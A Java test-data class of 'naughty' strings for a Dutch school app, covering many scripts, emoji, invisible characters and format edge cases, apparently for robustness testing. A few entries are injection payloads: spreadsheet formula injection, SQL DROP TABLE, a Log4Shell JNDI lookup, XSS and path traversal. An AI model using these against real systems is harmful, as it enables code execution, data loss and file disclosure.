package nl.samenbord;

import java.util.List;

/** Texts that programs trip over, in the scripts of the families at Dutch schools and beyond. */
final class NaughtyTexts {
    static final List<String> ALL =
            List.of(
                    // accents, composed and not, and letters that look alike
                    "Crèche, coëfficiënt en façade",
                    "Cre\u0300che, coe\u0308fficie\u0308nt en fac\u0327ade",
                    "ĳsbaan, ĲSLAND en IJsland",
                    "İstanbul’dan ılık çay, IĞDIR ve ığdır",
                    "Łódź, żółć, Straße, STRASSE, Ærø, œuvre, Þing, đorđe",
                    "Tôi muốn gặp cô giáo thường xuyên hơn",
                    "z̷̡̛̘̗a̴̛l̸̡g̶̢o̵̧ komt",
                    "A\u030A Å Å \u2126 Ω ﬁets ﬀ ① ½ ²",
                    // other scripts
                    "Хочу більше зустрічей, ґрунт і їжа; ёлка и й",
                    "Θέλω περισσότερες συναντήσεις, ΟΔΟΣ οδός",
                    "نريد المزيد من اللقاءات مع المعلمة (19:30).",
                    "تِلْمِيذَة مُجْتَهِدَة، لا ﷲ ﷺ",
                    "می\u200Cخواهم با معلم صحبت کنم؛ ۱۲۳ ٤٥٦",
                    "שָׁלוֹם לְכֻלָּם, \"ציטוט\" (סוגריים)",
                    "ምስ መምህር ክዛረብ እደሊ።",
                    "मैं शिक्षक से मिलना चाहता हूँ। क्\u200Dष क्\u200Cष १२३",
                    "நான் ஆசிரியரை சந்திக்க விரும்புகிறேன் ஸ்ரீ",
                    "希望多和老师见面，好吗？「引用」",
                    "先生と話したいです。ガギグ ｶﾞｷﾞ か\u3099",
                    "선생님과 이야기하고 싶어요 \u1112\u1161\u11AB글",
                    "Halo نص Hallo עברית hallo 中文 én Ελλ",
                    // emoji
                    "Top 👍🏽 gezin 👩‍👩‍👧 vlag 🇳🇱 hart ❤️ ❤︎",
                    "🏴\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F en"
                            + " 1️⃣ #️⃣ 👨🏿‍🦽",
                    "🫠🪩🧌 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎𠜱",
                    // what can't be seen
                    "\u202A+Ouder\u202C: meer \u2066tijd\u2069",
                    "\u202Eomgekeerd\u202C en \u202Dniet",
                    "Tekst\u200E met\u200F merken",
                    "\uFEFFBom\u2060 woord\u180E, groep\u200B8 en af\u00ADspraak",
                    "€\u00A05,00 en 24\u202Fnovember\u2007om\u30008 uur",
                    "rand \u200B \u200C \u2061 \uFFF9x\uFFFB \uFFFC",
                    // line breaks
                    "een\u000Btwee\fdrie\u0085vier\u2028vijf\u2029zes\r\nzeven\racht\nnegen",
                    "eerste regel\n\n\nlaatste regel",
                    "met\ttab en \u0000 nul \u0007 bel \u001B[31m kleur \u007F",
                    // broken characters
                    "half \uD83D paar \uDE00 en om \uDE00\uD83D",
                    "geen teken \uFFFE \uFFFF \uFDD0 \uFFFD",
                    // tables and formulas
                    "=1+1",
                    "+31 6 is een nummer",
                    "-2 graden",
                    "- koffie\n- thee",
                    "@SUM(A1:A9)",
                    "=cmd|' /C calc'!A0",
                    "'=1+1",
                    "''+31",
                    "'s Avonds en 's ochtends",
                    "'",
                    "\"",
                    "\"a\";\"b\",c\td",
                    "komma, puntkomma; en \"aanhalingstekens\" 'enkel' ‘krul’ “dubbel” „laag”",
                    "sep=;",
                    "vak;soort;van",
                    "ja",
                    "NULL",
                    "#NAAM?",
                    "1.000,50 en 1,000.50 en 1e10",
                    "２０２６年 ⅷ ٣ ৪ ๕",
                    // code of others
                    "<script>alert('x')</script> &amp; &lt;b&gt; <!-- -->",
                    "{\"notes\":[{\"text\":\"x\"}]} \\u0000 \\n \\\\",
                    "'; DROP TABLE briefjes; --",
                    "${jndi:ldap://x.example/a} {{7*7}} %s %n {0}",
                    "../../etc/passwd C:\\CON\\AUX file:///dev/null",
                    "# Kop",
                    "> citaat",
                    "1. lijst",
                    "```code```",
                    "| a | b |",
                    "![x](y) [a](b) **vet** _schuin_",
                    "1) een\n2. twee\n+ drie\n* vier\n=====\n-----",
                    "\\ achteraan\\",
                    "$x^2$ ~golf~ `tik` <a@school.example>",
                    "(haakje :-) ;-) %PDF-1.7 endobj stream)",
                    "http://www.voorbeeld.example/een/heel/lang/adres?met=vragen&en="
                            + "x".repeat(120),
                    "x".repeat(300),
                    "Rapportgesprekkenvoorbereidingsbijeenkomst".repeat(5));

    private NaughtyTexts() {}
}
